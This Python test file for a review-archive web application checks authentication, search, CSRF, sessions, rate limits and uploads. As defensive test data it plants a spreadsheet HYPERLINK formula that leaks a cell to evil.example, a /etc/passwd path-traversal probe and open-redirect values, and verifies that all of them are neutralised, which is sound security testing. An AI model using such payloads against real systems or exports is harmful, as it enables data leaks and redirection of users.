"""API and web behaviour: token auth, the search contract, errors as problem
documents, metadata edits, CSV formula escaping, sessions, CSRF, login rate
limits, security headers and uploads through the background worker.

One site per backend per module (SQLite and PostgreSQL); tests that disable
or lock out a person make their own."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from backends import PostgresRun
from storfa.accounts.service import LOGIN_FAILED, LOGIN_LIMITED
from storfa.ingest.jobs import JobWorker
from storfa.storage.sql.jobs import JobQueue
from storfa.web.security import SESSION_COOKIE
from webworld import (
    COMMON,
    HOME_ORG,
    PASSWORD,
    SYSTEM,
    World,
    backend_env,
    build_world,
    csrf_of,
)

UPLOAD_MB = 1
# Text a spreadsheet would run as a formula, planted at the start of passages.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"formulaic")',
            "+SUM(1,2) formulaic",
            "-2+3 formulaic",
            "@SUM(1) formulaic"]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def world(request: pytest.FixtureRequest, postgres_run: PostgresRun | None,
          tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with backend_env(request.param, postgres_run):
        base = tmp_path_factory.mktemp(f"api-{request.param}")
        site = build_world(base / "data", base / "reviews",
                           extra={"public": "\n" + "\n\n".join(FORMULAS) + "\n"},
                           upload_mb=UPLOAD_MB)
        yield site
        site.close()


def anon(w: World) -> TestClient:
    return TestClient(w.app, follow_redirects=False)


def is_problem(response: httpx.Response, status: int) -> None:
    assert response.status_code == status, (response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert body["status"] == status and body["title"] and "detail" in body


# ------------------------------------------------------------ tokens, health
def test_healthz_needs_no_login(world: World) -> None:
    response = anon(world).get("/healthz")
    assert response.status_code == 200 and response.json() == {"status": "ok"}


def test_valid_token_authenticates(world: World) -> None:
    me = anon(world).get("/api/v1/me", headers=world.bearer("editor"))
    assert me.status_code == 200
    assert me.json()["username"] == "editor" and me.json()["role"] == "editor"


@pytest.mark.parametrize("token", ["stf_not-a-real-token", "not-even-prefixed", "stf_"])
def test_unknown_token_is_401(world: World, token: str) -> None:
    response = anon(world).get("/api/v1/search", params={"q": COMMON},
                               headers={"Authorization": f"Bearer {token}"})
    is_problem(response, 401)
    assert response.headers["www-authenticate"] == "Bearer"


def test_no_token_is_401_where_sign_in_is_needed(world: World) -> None:
    is_problem(anon(world).get("/api/v1/me"), 401)


def test_revoked_token_is_401(world: World) -> None:
    user, token = world.new_user("revoker")
    client = anon(world)
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v1/me", headers=headers).status_code == 200
    (row,) = world.storfa.accounts.accounts.tokens(user.id)
    assert world.storfa.accounts.accounts.revoke_token(user.id, int(row["id"]))
    is_problem(client.get("/api/v1/me", headers=headers), 401)


def test_revoking_through_the_account_page(world: World) -> None:
    user, token = world.new_user("pagerevoker")
    client = world.login("pagerevoker")
    (row,) = world.storfa.accounts.accounts.tokens(user.id)
    csrf = csrf_of(client.get("/account").text)
    assert client.post(f"/account/tokens/{row['id']}/revoke",
                       data={"csrf_token": csrf}).status_code == 303
    is_problem(anon(world).get("/api/v1/me", headers={"Authorization": f"Bearer {token}"}), 401)


def test_disabled_users_token_and_session_stop_working(world: World) -> None:
    _user, token = world.new_user("leaver")
    session = world.login("leaver")
    headers = {"Authorization": f"Bearer {token}"}
    assert anon(world).get("/api/v1/me", headers=headers).status_code == 200
    assert session.get("/api/v1/me").status_code == 200
    admin = world.client("administrator")
    csrf = csrf_of(admin.get("/admin").text)
    assert admin.post("/admin/users/leaver", data={"action": "disable",
                                                  "csrf_token": csrf}).status_code == 303
    is_problem(anon(world).get("/api/v1/me", headers=headers), 401)
    is_problem(session.get("/api/v1/me"), 401)
    # Enabling the account again does not bring old sessions or tokens back.
    world.storfa.accounts.set_disabled("leaver", False, SYSTEM)
    is_problem(session.get("/api/v1/me"), 401)
    is_problem(anon(world).get("/api/v1/me", headers=headers), 401)


# ------------------------------------------------------------------ search
def test_search_shape_follows_the_contract(world: World) -> None:
    response = anon(world).get("/api/v1/search", params={"q": COMMON, "limit": 3},
                               headers=world.bearer("administrator"))
    assert response.status_code == 200
    body = response.json()
    assert isinstance(body["total"], int) and body["total"] == 4
    assert len(body["hits"]) == 3
    for hit in body["hits"]:
        assert {"review_id", "page", "section", "text", "snippet", "score"} <= set(hit)
        assert isinstance(hit["review_id"], str) and isinstance(hit["page"], int)
        assert isinstance(hit["section"], str) and isinstance(hit["score"], float)
        assert COMMON in hit["text"] and f"<mark>{COMMON}</mark>" in hit["snippet"]
    assert "facets" not in body or body["facets"] is None


def test_search_limit_and_offset(world: World) -> None:
    client, headers = anon(world), world.bearer("administrator")
    one = client.get("/api/v1/search", params={"q": COMMON, "limit": 1}, headers=headers).json()
    assert len(one["hits"]) == 1 and one["total"] == 4
    rest = client.get("/api/v1/search", params={"q": COMMON, "limit": 1000, "offset": 1},
                      headers=headers).json()
    assert len(rest["hits"]) == 3 and rest["total"] == 4
    assert one["hits"][0]["review_id"] not in {h["review_id"] for h in rest["hits"]}


@pytest.mark.parametrize("params", [
    {"limit": 0}, {"limit": -1}, {"limit": 1001}, {"limit": "ten"}, {"offset": -1},
    {"offset": "x"}, {"mode": "telepathic"}, {"sort": "random"}, {"with_facets": "perhaps"},
    {"q": "x" * 2001},
])
def test_out_of_bounds_parameters_are_4xx_problems(world: World,
                                                   params: dict[str, object]) -> None:
    response = anon(world).get("/api/v1/search", params={"q": COMMON, **params})  # type: ignore[dict-item]
    assert 400 <= response.status_code < 500, response.text
    is_problem(response, response.status_code)


@pytest.mark.parametrize("q", ["((", '"unclosed', "AND", "year:abc", "curiosity NEAR/",
                               "field:value:other", "*", "\x00", "board:", ")"])
def test_bad_query_is_400_problem(world: World, q: str) -> None:
    response = anon(world).get("/api/v1/search", params={"q": q})
    assert response.status_code in (200, 400), (q, response.text)
    if response.status_code == 400:
        is_problem(response, 400)


def test_unreadable_query_says_why(world: World) -> None:
    response = anon(world).get("/api/v1/search", params={"q": "(("})
    is_problem(response, 400)
    assert "query" in response.json()["detail"].lower()


def test_empty_query_is_400_problem(world: World) -> None:
    is_problem(anon(world).get("/api/v1/search"), 400)


@pytest.mark.parametrize("mode", ["semantic", "hybrid"])
def test_other_search_modes_answer_4xx_or_respect_access(world: World, mode: str) -> None:
    response = anon(world).get("/api/v1/search", params={"q": COMMON, "mode": mode,
                                                         "with_facets": "true"})
    assert response.status_code in (200, 400), response.text
    if response.status_code == 200:
        assert {h["review_id"] for h in response.json()["hits"]} <= {world.keys["public"]}
    else:
        is_problem(response, 400)


# ------------------------------------------------------------------ reviews
@pytest.mark.parametrize("path", ["/reviews/NOPE-0000", "/reviews/NOPE-0000/text",
                                  "/reviews/NOPE-0000/pages/1", "/reviews/CPR2017-W01/pages/999",
                                  "/jobs/999999", "/no/such/endpoint", "/reviews/a%0Ab",
                                  "/reviews/a%0Ab/text"])
def test_unknown_things_are_404_problems(world: World, path: str) -> None:
    is_problem(anon(world).get("/api/v1" + path, headers=world.bearer("administrator")), 404)


@pytest.mark.parametrize("path", ["/reviews/CPR2017-W01/pages/0", "/reviews/CPR2017-W01/pages/x",
                                  "/reviews/CPR2017-W01/pages/-1", "/jobs/abc",
                                  "/reviews/CPR2017-W01/pages/99999999999999999999999"])
def test_bad_path_parameters_are_4xx(world: World, path: str) -> None:
    response = anon(world).get("/api/v1" + path, headers=world.bearer("administrator"))
    assert 400 <= response.status_code < 500, response.text
    is_problem(response, response.status_code)


def test_editor_changes_metadata_and_it_is_audited(world: World) -> None:
    key = world.keys["registered"]
    client = anon(world)
    response = client.patch(f"/api/v1/reviews/{key}/metadata", headers=world.bearer("editor"),
                            json={"field": "gender", "value": "female"})
    assert response.status_code == 200, response.text
    values = {m["field"]: m for m in response.json()["metadata"]}
    assert values["gender"]["value"] == "female" and values["gender"]["source"] == "editor"
    again = client.get(f"/api/v1/reviews/{key}", headers=world.bearer("reader")).json()
    assert {m["field"]: m["value"] for m in again["metadata"]}["gender"] == "female"
    (event,) = [e for e in world.audit("review.metadata") if e["object_id"] == key
                and e["actor"] == "user:editor"][:1]
    detail = event["detail"]
    assert isinstance(detail, dict)
    assert (detail["field"], detail["value"], detail["allowed"]) == ("gender", "female", True)
    assert (detail["role"], detail["address"]) == ("editor", "testclient")
    assert any(e["action"] == "set_metadata" and e["object_id"] == key
               for e in world.audit())


@pytest.mark.parametrize("body", [{"field": "no_such_field", "value": "x"},
                                  {"field": "title"}, {"value": "x"}, {},
                                  {"field": "title", "value": "x" * 2001},
                                  {"field": ["title"], "value": "x"}])
def test_bad_metadata_edits_are_4xx(world: World, body: dict[str, object]) -> None:
    response = anon(world).patch(f"/api/v1/reviews/{world.keys['public']}/metadata",
                                 headers=world.bearer("editor"), json=body)
    assert 400 <= response.status_code < 500, response.text
    is_problem(response, response.status_code)


def test_metadata_patch_that_is_not_json_is_4xx(world: World) -> None:
    response = anon(world).patch(f"/api/v1/reviews/{world.keys['public']}/metadata",
                                 headers={**world.bearer("editor"),
                                          "content-type": "application/json"},
                                 content=b"{not json")
    assert 400 <= response.status_code < 500
    is_problem(response, response.status_code)


@pytest.mark.parametrize("body", [{"level": "secret"}, {"level": "restricted"},
                                  {"level": "restricted", "organisations": ["No Such Org"]},
                                  {"level": "draft", "organisations": "Home"}])
def test_bad_access_changes_are_4xx(world: World, body: dict[str, object]) -> None:
    response = anon(world).put(f"/api/v1/reviews/{world.keys['public']}/access",
                               headers=world.bearer("administrator"), json=body)
    assert 400 <= response.status_code < 500, response.text
    is_problem(response, response.status_code)
    listed = anon(world).get("/api/v1/reviews").json()["reviews"]
    assert world.keys["public"] in {r["review_id"] for r in listed}


def test_link_to_a_hidden_version_is_not_shown(world: World, tmp_path: Path) -> None:
    """The Welsh version of a public review, restricted to one organisation:
    others must not learn from the English one that it exists."""
    welsh = tmp_path / "cy.md"
    welsh.write_text("# Adolygiad Ymarfer Plant CPR2017-W01\n\nBwrdd Diogelu Cwm Taf Morgannwg"
                     "\n\n## Dysgu\n\nDangosodd yr ymarferwyr chwilfrydedd proffesiynol.\n",
                     encoding="utf-8")
    (result,) = world.storfa.ingest.ingest([welsh])
    assert result.status == "ingested" and result.review_id == "CPR2017-W01-cy", result
    home = world.storfa.accounts.accounts.organisation(HOME_ORG)
    assert home is not None
    row = {k: r for r, k in world.storfa.store.review_keys().items()}["CPR2017-W01-cy"]
    world.storfa.accounts.set_access(row, "CPR2017-W01-cy", "restricted", [home.id], SYSTEM)
    world.storfa.catalogue.invalidate()
    key = world.keys["public"]
    for who, linked in (("reader", "CPR2017-W01-cy"), ("other_reader", None),
                        ("anonymous", None)):
        one = anon(world).get(f"/api/v1/reviews/{key}", headers=world.bearer(who)).json()
        assert one["linked"] == linked, who
        listed = anon(world).get("/api/v1/reviews", headers=world.bearer(who)).json()
        assert {r["review_id"]: r["linked"] for r in listed["reviews"]}[key] == linked, who
        html = world.client(who).get(f"/reviews/{key}").text
        assert ("CPR2017-W01-cy" in html) == (linked is not None), who


# ---------------------------------------------------------------------- CSV
def test_csv_export_escapes_formulas(world: World) -> None:
    key = world.keys["public"]
    assert anon(world).patch(f"/api/v1/reviews/{key}/metadata",
                             headers=world.bearer("administrator"),
                             json={"field": "title", "value": "=1+1 formulaic title"}
                             ).status_code == 200
    world.storfa.catalogue.invalidate()
    response = world.client("reader").get("/search.csv", params={"q": "formulaic"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) > 1, response.text
    cells = [cell for row in rows[1:] for cell in row]
    texts = [row[-1] for row in rows[1:]]
    for formula in FORMULAS:
        assert any(t.startswith("'" + formula) for t in texts), (formula, texts)
    assert "'=1+1 formulaic title" in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# ---------------------------------------------------------------- sessions
def test_login_sets_a_new_session_and_logout_ends_it(world: World) -> None:
    world.new_user("sessioner")
    client = world.login("sessioner")
    first = client.cookies.get(SESSION_COOKIE)
    assert first
    # Signing in again, even while signed in, gives a new session token.
    world.login("sessioner", client=client)
    second = client.cookies.get(SESSION_COOKIE)
    assert second and second != first
    stale = anon(world)
    stale.cookies.set(SESSION_COOKIE, first)
    is_problem(stale.get("/api/v1/me"), 401)
    assert client.get("/api/v1/me").json()["username"] == "sessioner"
    csrf = csrf_of(client.get("/account").text)
    response = client.post("/logout", data={"csrf_token": csrf})
    assert response.status_code == 303
    assert not client.cookies.get(SESSION_COOKIE)
    replay = anon(world)
    replay.cookies.set(SESSION_COOKIE, second)
    is_problem(replay.get("/api/v1/me"), 401)
    assert replay.get("/account").status_code == 303  # back to the sign-in page


@pytest.mark.parametrize(("column", "age"), [("last_seen", dt.timedelta(minutes=31)),
                                             ("created_at", dt.timedelta(hours=12, minutes=1))])
def test_idle_and_absolute_timeouts_end_sessions(world: World, column: str,
                                                 age: dt.timedelta) -> None:
    user, _token = world.new_user(f"timed-{column}")
    client = world.login(user.username)
    assert client.get("/api/v1/me").status_code == 200
    stamp = (dt.datetime.now(dt.UTC) - age).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    with world.storfa.accounts.accounts.db.write() as conn:
        conn.execute(f"UPDATE user_sessions SET {column} = ? WHERE user_id = ?",
                     (stamp, user.id))
    is_problem(client.get("/api/v1/me"), 401)


def test_forged_session_cookie_is_anonymous(world: World) -> None:
    client = anon(world)
    client.cookies.set(SESSION_COOKIE, "forged.value")
    is_problem(client.get("/api/v1/me"), 401)
    assert client.get("/").status_code == 200


def test_admin_without_second_factor_cannot_administer(world: World) -> None:
    world.new_user("newadmin", role="administrator")
    client = world.login("newadmin")  # sent to enrol a second factor
    assert client.get("/admin").status_code == 403
    assert client.get("/admin/audit").status_code == 403


# -------------------------------------------------------------------- CSRF
def test_form_posts_need_the_right_csrf_token(world: World) -> None:
    editor = world.client("editor")
    url = f"/reviews/{world.keys['public']}/metadata"
    for form in ({"field": "gender", "value": "male"},
                 {"field": "gender", "value": "male", "csrf_token": "wrong"},
                 {"field": "gender", "value": "male", "csrf_token": world.page_csrf("reader")}):
        assert editor.post(url, data=form).status_code == 403, form
    for path in ("/logout", "/account/tokens", "/searches"):
        assert editor.post(path, data={"csrf_token": "wrong"}).status_code == 403, path
    assert editor.get("/api/v1/me").status_code == 200  # still signed in
    good = {"field": "gender", "value": "male", "csrf_token": world.page_csrf("editor")}
    assert editor.post(url, data=good).status_code == 303


def test_login_form_needs_csrf(world: World) -> None:
    client = anon(world)
    client.get("/login")
    response = client.post("/login", data={"username": "reader", "password": PASSWORD})
    assert response.status_code == 403
    assert SESSION_COOKIE not in response.cookies


def test_api_writes_with_a_cookie_session_need_the_csrf_header(world: World) -> None:
    editor = world.client("editor")
    url = f"/api/v1/reviews/{world.keys['public']}/metadata"
    body = {"field": "gender", "value": "unknown"}
    is_problem(editor.patch(url, json=body), 403)
    is_problem(editor.patch(url, json=body, headers={"X-CSRF-Token": "wrong"}), 403)
    ok = editor.patch(url, json=body, headers={"X-CSRF-Token": world.page_csrf("editor")})
    assert ok.status_code == 200, ok.text


# -------------------------------------------------------------- rate limit
def _login_attempt(w: World, username: str, password: str) -> httpx.Response:
    client = anon(w)
    csrf = csrf_of(client.get("/login").text)
    return client.post("/login", data={"username": username, "password": password,
                                       "csrf_token": csrf})


def _alert(html: str) -> str:
    found = re.search(r'role="alert"[^>]*>(.*?)</', html, re.S)
    return " ".join(found.group(1).split()) if found else ""


def test_same_message_for_unknown_user_and_wrong_password(world: World) -> None:
    world.new_user("known")
    unknown = _login_attempt(world, "nobody-by-this-name", PASSWORD)
    wrong = _login_attempt(world, "known", "not the password at all")
    assert unknown.status_code == wrong.status_code == 401
    assert LOGIN_FAILED in unknown.text and LOGIN_FAILED in wrong.text
    assert _alert(unknown.text) == _alert(wrong.text) != ""
    assert SESSION_COOKIE not in unknown.cookies and SESSION_COOKIE not in wrong.cookies


def test_sixth_failed_login_is_refused_even_with_the_right_password(world: World) -> None:
    world.new_user("guessed")
    for _ in range(5):
        assert LOGIN_FAILED in _login_attempt(world, "guessed", "wrong password!").text
    limited = _login_attempt(world, "guessed", PASSWORD)
    assert limited.status_code == 401 and LOGIN_LIMITED in limited.text
    assert SESSION_COOKIE not in limited.cookies
    # Unknown usernames are limited the same way: no difference to learn from.
    for _ in range(5):
        _login_attempt(world, "ghost-user", "wrong password!")
    assert LOGIN_LIMITED in _login_attempt(world, "ghost-user", PASSWORD).text
    failures = [e for e in world.audit("login.failure") if e["object_id"] == "guessed"]
    assert len(failures) == 6 and all(e["detail"]["allowed"] is False  # type: ignore[index]
                                      for e in failures)


# ----------------------------------------------------------------- headers
@pytest.mark.parametrize("path", ["/", "/login", "/search?q=curiosity", "/reviews/NOPE",
                                  "/healthz", "/api/v1/search?q=curiosity", "/api/v1/reviews",
                                  "/api/v1/reviews/NOPE", "/api/v1/openapi.json",
                                  "/static/storfa.css"])
def test_security_headers(world: World, path: str) -> None:
    response = anon(world).get(path)
    csp = response.headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp, path
    assert response.headers.get("x-content-type-options") == "nosniff", path
    assert response.headers.get("x-frame-options") == "DENY", path


# ------------------------------------------------------------------ uploads
def _upload(w: World, who: str, name: str, body: bytes, kind: str) -> httpx.Response:
    return anon(w).post("/api/v1/uploads", headers=w.bearer(who),
                        files=[("files", (name, body, kind))])


def test_upload_over_the_limit_is_rejected_with_a_reason(world: World) -> None:
    body = b"# Big\n\n" + b"word " * (UPLOAD_MB * 1024 * 1024 // 5 + 10)
    response = _upload(world, "editor", "big.md", body, "text/markdown")
    assert response.status_code == 200, response.text
    (item,) = response.json()["uploads"]
    assert item["status"] == "rejected" and item["job_id"] is None
    assert "too_large" in item["reason"] and f"{UPLOAD_MB} MB" in item["reason"]


def test_json_upload_is_rejected_as_unsupported(world: World) -> None:
    response = _upload(world, "editor", "data.json", b'{"review": "not really"}',
                       "application/json")
    (item,) = response.json()["uploads"]
    assert item["status"] == "rejected" and item["reason"], item


def test_readers_upload_is_403(world: World) -> None:
    is_problem(_upload(world, "reader", "r.md", b"# Review\n\ntext\n", "text/markdown"), 403)
    assert world.client("reader").get("/upload").status_code == 403


def test_upload_without_files_is_4xx(world: World) -> None:
    response = anon(world).post("/api/v1/uploads", headers=world.bearer("editor"))
    assert 400 <= response.status_code < 500
    is_problem(response, response.status_code)


def test_good_upload_is_queued_then_ingested_by_the_worker(world: World) -> None:
    text = ("# Child Practice Review CPR2022-W05\n\nGwent Safeguarding Board\n\n"
            "## Practice and organisational learning\n\nUploaded marsupialine passage "
            "about professional curiosity.\n")
    response = _upload(world, "editor", "cpr-2022-w05.md", text.encode(), "text/markdown")
    (item,) = response.json()["uploads"]
    assert item["status"] == "queued" and isinstance(item["job_id"], int), item
    job_url = f"/api/v1/jobs/{item['job_id']}"
    assert anon(world).get(job_url, headers=world.bearer("editor")).json()["status"] == "queued"
    # Another person's job is not theirs to watch.
    is_problem(anon(world).get(job_url, headers=world.bearer("other_editor")), 404)
    worker = JobWorker(JobQueue(world.storfa.store.db), world.storfa.ingest,
                       world.storfa.settings.data_dir, poll_seconds=0.1)
    counts = worker.run(once=True)
    assert counts["done"] >= 1, counts
    job = anon(world).get(job_url, headers=world.bearer("editor")).json()
    assert job["status"] == "done" and job["result"]["status"] == "ingested", job
    assert job["result"]["review_id"] == "CPR2022-W05"
    world.storfa.catalogue.invalidate()
    # An upload is a draft of the uploader's organisation until it is published
    # (docs/disclosure.md): searchable by its editor, not by visitors yet.
    assert job["result"]["access"] == "draft"
    found = anon(world).get("/api/v1/search", params={"q": "marsupialine"},
                            headers=world.bearer("editor")).json()
    assert [h["review_id"] for h in found["hits"]] == ["CPR2022-W05"]
    assert anon(world).get("/api/v1/search", params={"q": "marsupialine"}).json()["hits"] == []


# ------------------------------------------------- pages never 500 on input
@pytest.mark.parametrize("path", [
    "/search?q=((", "/search?q=curiosity&page=abc", "/search?q=curiosity&page=-4",
    "/search?q=curiosity&sort=sideways", "/search?q=curiosity&mode=semantic",
    "/search?q=curiosity&mode=nonsense", "/search?year=abc", "/search?q=" + "x" * 5000,
    "/search.csv?q=((", "/search.csv?q=curiosity&mode=bogus", "/search?q=%00",
    "/reviews/CPR2017-W01?page=abc", "/reviews/CPR2017-W01?page=-1",
    "/reviews/CPR2017-W01?passage=abc", "/reviews/CPR2017-W01?q=((",
    "/reviews/CPR2017-W01?page=99999999999999999999999999",
    "/reviews/..%2f..%2fetc%2fpasswd", "/reviews/NOPE/original", "/reviews?type=%00",
    "/login?next=//evil.example", "/admin/audit?denied=perhaps",
])
def test_pages_never_500_on_bad_input(world: World, path: str) -> None:
    for who in ("anonymous", "administrator"):
        response = world.client(who).get(path)
        assert response.status_code < 500, (who, path, response.text[:300])


@pytest.mark.parametrize(("path", "form"), [
    ("/login", {"username": "u" * 300, "password": "p"}),
    ("/login", {"username": "reader", "password": "p" * 5000}),
    ("/language", {"lang": "xx", "next": "https://evil.example"}),
    ("/reviews/CPR2017-W01/access", {"level": "public", "organisations": "abc"}),
    ("/reviews/CPR2017-W01/access", {"level": "nonsense"}),
    ("/reviews/CPR2017-W01/metadata", {"field": "year", "value": "x" * 3000}),
    ("/admin/users", {"username": "", "password": "short", "role": "king"}),
    ("/admin/users/nobody", {"action": "explode"}),
    ("/admin/organisations", {"name": ""}),
])
def test_forms_never_500_on_bad_input(world: World, path: str, form: dict[str, str]) -> None:
    client = world.client("administrator")
    response = client.post(path, data={**form, "csrf_token": world.page_csrf("administrator")})
    assert response.status_code < 500, (path, response.text[:300])
    if path == "/language":
        assert response.headers["location"] == "/"


def test_login_redirect_stays_on_site(world: World) -> None:
    world.new_user("traveller")
    client = anon(world)
    csrf = csrf_of(client.get("/login").text)
    response = client.post("/login", data={"username": "traveller", "password": PASSWORD,
                                           "csrf_token": csrf, "next": "//evil.example/x"})
    assert response.status_code == 303 and response.headers["location"] == "/"
